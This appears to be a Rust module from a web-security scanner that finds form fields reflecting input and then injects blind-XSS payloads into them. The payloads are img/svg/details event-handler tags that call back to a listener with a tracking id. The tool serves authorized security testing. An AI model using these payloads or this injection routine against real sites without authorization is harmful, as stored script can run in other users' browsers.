// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Blind-XSS confirmation scanner.
//!
//! Two-phase protocol over the forms the spider collected: an echo
//! phase proves a field's value reflects somewhere observable, then an
//! injection phase plants out-of-band payloads carrying correlation
//! tokens into the confirmed-reflecting fields. Execution is confirmed
//! asynchronously by the callback listener, never by this scanner.

use std::collections::HashSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

use tracing::{debug, info, warn};

use crate::browser::{js_string, BrowserSession};
use crate::callback_server::PayloadTracker;
use crate::report::XssTargetsArtifact;
use crate::types::FieldAttributes;

/// Out-of-band payload templates; `{url}` receives the listener URL
/// carrying the correlation token.
pub const PAYLOAD_TEMPLATES: &[&str] = &[
    "<img src=x onerror=fetch('{url}')>",
    "<svg onload=fetch('{url}')>",
    "<details open ontoggle=fetch('{url}')>",
];

/// Harmless probe typed during the echo phase.
pub const ECHO_MARKER: &str = "__seitti_echo_probe__";

const ECHO_TIMEOUT: Duration = Duration::from_secs(5);
const ECHO_SETTLE: Duration = Duration::from_millis(300);
const INJECTION_SETTLE: Duration = Duration::from_millis(700);
const MARKER_POLL: Duration = Duration::from_millis(250);

const SEARCH_ICON_SELECTORS: &[&str] = &[
    "mat-icon.mat-search_icon-search",
    "span.mat-search_icons mat-icon[class*='search']",
    "mat-icon[data-mat-icon-type='font']",
];

const SUBMIT_BUTTON_SELECTORS: &[&str] = &[
    "button[type='submit']",
    "input[type='submit']",
    "#loginButton",
];

/// Outcome classification for a single echo test.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EchoStatus {
    NotReflected,
    Reflected,
    /// The marker reflected but the field no longer exists on the
    /// resulting page; it cannot be safely re-targeted for injection.
    ReflectedFieldMissing,
    Error,
}

#[derive(Debug, Clone)]
pub struct EchoResult {
    pub status: EchoStatus,
    pub final_url: Option<String>,
    pub error: Option<String>,
}

impl EchoResult {
    fn status(status: EchoStatus) -> Self {
        Self {
            status,
            final_url: None,
            error: None,
        }
    }
}

/// A field confirmed to reflect input, queued for injection.
#[derive(Debug, Clone)]
pub struct EchoFinding {
    pub url: String,
    pub field_identifier: String,
    pub attributes: FieldAttributes,
}

/// One delivered payload attempt.
#[derive(Debug, Clone)]
pub struct InjectionRecord {
    pub field: String,
    pub field_id: Option<String>,
    pub field_name: String,
    pub payload_id: String,
    pub payload: String,
}

// ---------------------------------------------------------------------
// Field location
// ---------------------------------------------------------------------

type SelectorStrategy = fn(&str, &FieldAttributes) -> Option<String>;

/// Ordered chain of pure selector strategies, evaluated in priority
/// order until one matches a live element.
pub struct FieldLocator {
    strategies: Vec<SelectorStrategy>,
}

impl Default for FieldLocator {
    fn default() -> Self {
        Self {
            strategies: vec![
                |_, attrs| attr_selector("placeholder", attrs.placeholder.as_deref()),
                |_, attrs| attr_selector("aria-label", attrs.aria_label.as_deref()),
                |identifier, _| Some(selector_for_identifier(identifier)),
                |identifier, _| {
                    identifier
                        .split_once("::")
                        .map(|(_, value)| format!("[name=\"{}\"]", escape_attr_value(value)))
                },
                |_, attrs| attr_selector("id", attrs.id.as_deref()),
                |_, attrs| attr_selector("name", attrs.name.as_deref()),
                |_, attrs| attr_selector("data-testid", attrs.data_testid.as_deref()),
                |_, attrs| match (attrs.tag.as_deref(), attrs.name.as_deref()) {
                    (Some(tag), Some(name)) if !tag.is_empty() && !name.is_empty() => Some(
                        format!("{}[name=\"{}\"]", tag, escape_attr_value(name)),
                    ),
                    _ => None,
                },
            ],
        }
    }
}

impl FieldLocator {
    /// All candidate selectors for the field, deduplicated in priority
    /// order.
    pub fn candidates(&self, identifier: &str, attributes: &FieldAttributes) -> Vec<String> {
        let mut seen = HashSet::new();
        self.strategies
            .iter()
            .filter_map(|strategy| strategy(identifier, attributes))
            .filter(|selector| seen.insert(selector.clone()))
            .collect()
    }

    /// First candidate selector that matches an element on the page.
    pub fn resolve(
        &self,
        session: &BrowserSession,
        identifier: &str,
        attributes: &FieldAttributes,
    ) -> Option<String> {
        self.candidates(identifier, attributes)
            .into_iter()
            .find(|selector| session.selector_matches(selector))
    }
}

fn attr_selector(attr: &str, value: Option<&str>) -> Option<String> {
    let value = value.filter(|v| !v.is_empty())?;
    Some(format!("[{}=\"{}\"]", attr, escape_attr_value(value)))
}

/// Map a field identifier back to the attribute selector it came from.
pub fn selector_for_identifier(identifier: &str) -> String {
    let (attr, value) = match identifier.split_once("::") {
        Some((prefix, value)) => {
            let attr = match prefix {
                "id" => "id",
                "aria" => "aria-label",
                "placeholder" => "placeholder",
                "data-testid" => "data-testid",
                _ => "name",
            };
            (attr, value)
        }
        None => ("name", identifier),
    };
    format!("[{}=\"{}\"]", attr, escape_attr_value(value))
}

fn escape_attr_value(value: &str) -> String {
    value.replace('\\', "\\\\").replace('"', "\\\"")
}

// ---------------------------------------------------------------------
// Scanner
// ---------------------------------------------------------------------

pub struct XssScanner<'a> {
    session: &'a BrowserSession,
    tracker: Arc<PayloadTracker>,
    listener_url: String,
    origin_url: String,
    locator: FieldLocator,
    echo_findings: Vec<EchoFinding>,
    echo_seen: HashSet<(String, String)>,
    injected: Vec<InjectionRecord>,
}

impl<'a> XssScanner<'a> {
    pub fn new(
        session: &'a BrowserSession,
        tracker: Arc<PayloadTracker>,
        listener_url: &str,
        origin_url: &str,
    ) -> Self {
        Self {
            session,
            tracker,
            listener_url: listener_url.trim_end_matches('/').to_string(),
            origin_url: origin_url.to_string(),
            locator: FieldLocator::default(),
            echo_findings: Vec::new(),
            echo_seen: HashSet::new(),
            injected: Vec::new(),
        }
    }

    pub fn echo_findings(&self) -> &[EchoFinding] {
        &self.echo_findings
    }

    /// Run the echo phase over every collected form, then inject into
    /// every confirmed-reflecting field. Returns the delivered
    /// payload records; confirmation arrives via the callback listener.
    pub fn run(&mut self, targets: &XssTargetsArtifact) -> Vec<InjectionRecord> {
        for form in &targets.forms {
            if form.fields.is_empty() {
                continue;
            }
            info!(
                "[Echo] Evaluating {} field(s) at {}",
                form.fields.len(),
                form.submit_url
            );

            for field in &form.fields {
                debug!("[Echo] Testing field '{}'", field.identifier);
                let result = self.echo_test(&form.submit_url, &field.identifier, &field.attributes);

                match result.status {
                    EchoStatus::Reflected => {
                        let final_url = result
                            .final_url
                            .unwrap_or_else(|| form.submit_url.clone());
                        info!(
                            "[Echo] Field '{}' reflects at {}",
                            field.identifier, final_url
                        );
                        self.register_echo_finding(final_url, field.identifier.clone(), field.attributes.clone());
                    }
                    EchoStatus::ReflectedFieldMissing => {
                        info!(
                            "[Echo] Field '{}' reflects but vanished from the final page; skipping",
                            field.identifier
                        );
                    }
                    EchoStatus::NotReflected => {
                        debug!("[Echo] No reflection for '{}'", field.identifier);
                    }
                    EchoStatus::Error => {
                        warn!(
                            "[Echo] Error testing '{}': {}",
                            field.identifier,
                            result.error.as_deref().unwrap_or("unknown")
                        );
                    }
                }
            }
        }

        if self.echo_findings.is_empty() {
            info!("[Inject] No reflecting fields, nothing to inject");
            return Vec::new();
        }

        let findings = self.echo_findings.clone();
        for finding in &findings {
            info!(
                "[Inject] Preparing '{}' at {}",
                finding.field_identifier, finding.url
            );
            if !self.prepare_page(&finding.url) {
                warn!("[Inject] Could not reopen {}; skipping field", finding.url);
                continue;
            }
            self.ensure_field_ready(&finding.attributes);

            for (index, template) in PAYLOAD_TEMPLATES.iter().enumerate() {
                let payload_id = self.tracker.register_payload(
                    finding.attributes.id.as_deref(),
                    Some(
                        finding
                            .attributes
                            .name
                            .as_deref()
                            .unwrap_or(&finding.field_identifier),
                    ),
                    "",
                    &finding.url,
                );

                match self.apply_payload(finding, &payload_id, template) {
                    Some(record) => {
                        info!(
                            "[Inject] Payload {} (template {}) delivered to '{}'",
                            payload_id, index, finding.field_identifier
                        );
                        self.injected.push(record);
                    }
                    None => {
                        warn!(
                            "[Inject] Delivery failed for '{}' (template {})",
                            finding.field_identifier, index
                        );
                    }
                }
                self.session.settle(INJECTION_SETTLE);
            }
        }

        self.injected.clone()
    }

    // ------------------------------------------------------------------
    // Echo phase
    // ------------------------------------------------------------------

    /// Type the marker into the field, submit, and look for the marker
    /// anywhere observable. Never panics past this boundary: a field
    /// that cannot be found or driven reports a status instead.
    pub fn echo_test(
        &self,
        url: &str,
        field_identifier: &str,
        attributes: &FieldAttributes,
    ) -> EchoResult {
        if !self.prepare_page(url) {
            return EchoResult {
                status: EchoStatus::Error,
                final_url: None,
                error: Some(format!("navigation to {} failed", url)),
            };
        }
        self.ensure_field_ready(attributes);

        let selector = match self.locator.resolve(self.session, field_identifier, attributes) {
            Some(selector) => selector,
            None => {
                return EchoResult {
                    status: EchoStatus::NotReflected,
                    final_url: None,
                    error: Some("field_not_found".to_string()),
                }
            }
        };

        if let Err(e) = self.session.type_into(&selector, ECHO_MARKER) {
            return EchoResult {
                status: EchoStatus::Error,
                final_url: None,
                error: Some(e.to_string()),
            };
        }
        self.submit_field(&selector);

        self.session.settle(ECHO_SETTLE);
        let final_url = self.session.current_url();

        if !self.marker_detected(url, &final_url) {
            return EchoResult::status(EchoStatus::NotReflected);
        }

        if self
            .locator
            .resolve(self.session, field_identifier, attributes)
            .is_none()
        {
            return EchoResult {
                status: EchoStatus::ReflectedFieldMissing,
                final_url: Some(final_url),
                error: None,
            };
        }

        EchoResult {
            status: EchoStatus::Reflected,
            final_url: Some(final_url),
            error: None,
        }
    }

    fn register_echo_finding(
        &mut self,
        url: String,
        field_identifier: String,
        attributes: FieldAttributes,
    ) {
        let key = (url.clone(), field_identifier.clone());
        if !self.echo_seen.insert(key) {
            return;
        }
        self.echo_findings.push(EchoFinding {
            url,
            field_identifier,
            attributes,
        });
    }

    /// Reflection probes, cheapest first: live DOM text, full HTML,
    /// the URL itself, then body text after a client-side navigation.
    fn marker_detected(&self, origin_url: &str, final_url: &str) -> bool {
        if self.wait_for_marker_in_text() {
            return true;
        }
        if let Ok(html) = self.session.content() {
            if html.contains(ECHO_MARKER) {
                return true;
            }
        }
        if final_url.contains(ECHO_MARKER) {
            return true;
        }
        if final_url != origin_url && self.marker_in_body_text() {
            return true;
        }
        false
    }

    fn wait_for_marker_in_text(&self) -> bool {
        let script = format!(
            "document.body !== null && document.body.innerText.includes({})",
            js_string(ECHO_MARKER)
        );
        let deadline = Instant::now() + ECHO_TIMEOUT;
        loop {
            if self.session.eval_bool(&script) {
                return true;
            }
            if Instant::now() >= deadline {
                return false;
            }
            self.session.settle(MARKER_POLL);
        }
    }

    fn marker_in_body_text(&self) -> bool {
        let script = format!(
            "document.body !== null && document.body.innerText.includes({})",
            js_string(ECHO_MARKER)
        );
        self.session.eval_bool(&script)
    }

    // ------------------------------------------------------------------
    // Injection phase
    // ------------------------------------------------------------------

    fn apply_payload(
        &self,
        finding: &EchoFinding,
        payload_id: &str,
        template: &str,
    ) -> Option<InjectionRecord> {
        let callback_url = format!("{}?id={}", self.listener_url, payload_id);
        let payload = template.replace("{url}", &callback_url);

        // Page state may have reset since the echo phase; re-resolve.
        let selector = self
            .locator
            .resolve(self.session, &finding.field_identifier, &finding.attributes)?;

        if let Err(e) = self.session.type_into(&selector, &payload) {
            debug!("[Inject] Typing failed: {}", e);
            return None;
        }
        self.submit_field(&selector);
        self.tracker.update_payload_body(payload_id, &payload);

        Some(InjectionRecord {
            field: finding.field_identifier.clone(),
            field_id: finding.attributes.id.clone(),
            field_name: finding
                .attributes
                .name
                .clone()
                .unwrap_or_else(|| finding.field_identifier.clone()),
            payload_id: payload_id.to_string(),
            payload,
        })
    }

    // ------------------------------------------------------------------
    // Page interaction helpers
    // ------------------------------------------------------------------

    fn prepare_page(&self, url: &str) -> bool {
        if let Err(e) = self.session.navigate(url) {
            debug!("[Echo] Navigation failed: {}", e);
            return false;
        }
        self.session.dismiss_overlays();
        true
    }

    /// Submit via the first mechanism that takes: Enter on the field,
    /// a submit/login button, then a scripted form submit.
    fn submit_field(&self, selector: &str) {
        if self.session.press_enter().is_ok() {
            return;
        }
        for button in SUBMIT_BUTTON_SELECTORS {
            if self.session.selector_matches(button) && self.session.click(button).is_ok() {
                return;
            }
        }
        self.session.submit_owning_form(selector);
    }

    fn ensure_field_ready(&self, attributes: &FieldAttributes) {
        if should_activate_search(attributes) {
            self.activate_search_bar();
        }
    }

    /// Icon-collapsed search bars need a click before the input
    /// becomes editable.
    fn activate_search_bar(&self) {
        if self.session.selector_matches("#mat-input-1") {
            return;
        }
        for icon in SEARCH_ICON_SELECTORS {
            if !self.session.selector_matches(icon) {
                continue;
            }
            if self.session.click(icon).is_err() {
                continue;
            }
            self.session.settle(Duration::from_millis(400));
            if self.session.selector_matches("#mat-input-1") {
                return;
            }
        }
    }

    pub fn origin_url(&self) -> &str {
        &self.origin_url
    }
}

/// Heuristic for fields hidden behind a search icon: the stock SPA
/// search input, or any attribute token mentioning "search".
pub fn should_activate_search(attributes: &FieldAttributes) -> bool {
    if attributes
        .id
        .as_deref()
        .map(|id| id.eq_ignore_ascii_case("mat-input-1"))
        .unwrap_or(false)
    {
        return true;
    }

    [
        attributes.id.as_deref(),
        attributes.name.as_deref(),
        attributes.placeholder.as_deref(),
        attributes.aria_label.as_deref(),
    ]
    .iter()
    .flatten()
    .any(|value| value.to_lowercase().contains("search"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn attrs() -> FieldAttributes {
        FieldAttributes::default()
    }

    #[test]
    fn test_selector_for_identifier() {
        assert_eq!(selector_for_identifier("q"), "[name=\"q\"]");
        assert_eq!(
            selector_for_identifier("id::mat-input-1"),
            "[id=\"mat-input-1\"]"
        );
        assert_eq!(
            selector_for_identifier("aria::Search field"),
            "[aria-label=\"Search field\"]"
        );
        assert_eq!(
            selector_for_identifier("placeholder::Email..."),
            "[placeholder=\"Email...\"]"
        );
        assert_eq!(
            selector_for_identifier("data-testid::login-email"),
            "[data-testid=\"login-email\"]"
        );
    }

    #[test]
    fn test_selector_escapes_quotes() {
        assert_eq!(
            selector_for_identifier("placeholder::Say \"hi\""),
            "[placeholder=\"Say \\\"hi\\\"\"]"
        );
    }

    #[test]
    fn test_locator_priority_placeholder_first() {
        let locator = FieldLocator::default();
        let mut attributes = attrs();
        attributes.placeholder = Some("Search...".to_string());
        attributes.aria_label = Some("Search field".to_string());
        attributes.id = Some("mat-input-1".to_string());

        let candidates = locator.candidates("q", &attributes);
        assert_eq!(candidates[0], "[placeholder=\"Search...\"]");
        assert_eq!(candidates[1], "[aria-label=\"Search field\"]");
        assert_eq!(candidates[2], "[name=\"q\"]");
        assert!(candidates.contains(&"[id=\"mat-input-1\"]".to_string()));
    }

    #[test]
    fn test_locator_prefixed_identifier_adds_name_fallback() {
        let locator = FieldLocator::default();
        let candidates = locator.candidates("id::mat-input-1", &attrs());
        assert_eq!(candidates[0], "[id=\"mat-input-1\"]");
        assert!(candidates.contains(&"[name=\"mat-input-1\"]".to_string()));
    }

    #[test]
    fn test_locator_tag_name_combo() {
        let locator = FieldLocator::default();
        let mut attributes = attrs();
        attributes.tag = Some("textarea".to_string());
        attributes.name = Some("comment".to_string());

        let candidates = locator.candidates("comment", &attributes);
        assert!(candidates.contains(&"textarea[name=\"comment\"]".to_string()));
    }

    #[test]
    fn test_locator_candidates_deduplicated() {
        let locator = FieldLocator::default();
        let mut attributes = attrs();
        attributes.name = Some("q".to_string());

        let candidates = locator.candidates("q", &attributes);
        let unique: HashSet<&String> = candidates.iter().collect();
        assert_eq!(unique.len(), candidates.len());
    }

    #[test]
    fn test_should_activate_search() {
        let mut attributes = attrs();
        assert!(!should_activate_search(&attributes));

        attributes.id = Some("mat-input-1".to_string());
        assert!(should_activate_search(&attributes));

        let mut attributes = attrs();
        attributes.placeholder = Some("Search products".to_string());
        assert!(should_activate_search(&attributes));

        let mut attributes = attrs();
        attributes.name = Some("email".to_string());
        assert!(!should_activate_search(&attributes));
    }

    #[test]
    fn test_payload_template_interpolation() {
        let rendered = PAYLOAD_TEMPLATES[0]
            .replace("{url}", "http://127.0.0.1:8000?id=cafe1234");
        assert_eq!(
            rendered,
            "<img src=x onerror=fetch('http://127.0.0.1:8000?id=cafe1234')>"
        );
        for template in PAYLOAD_TEMPLATES {
            assert!(template.contains("{url}"));
            assert!(template.contains("fetch"));
        }
    }
}
